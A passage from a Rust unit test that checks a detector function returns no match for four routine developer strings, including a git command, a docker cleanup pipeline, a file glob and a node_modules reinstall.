            "echo $(git rev-parse HEAD)",
            "docker ps -q | xargs docker rm",
            "src/**/*.ts and /api/users/*",
            "rm -rf node_modules && npm ci",
        ] {
            assert_eq!(found(text), None, "{text}");
        }
    }
}
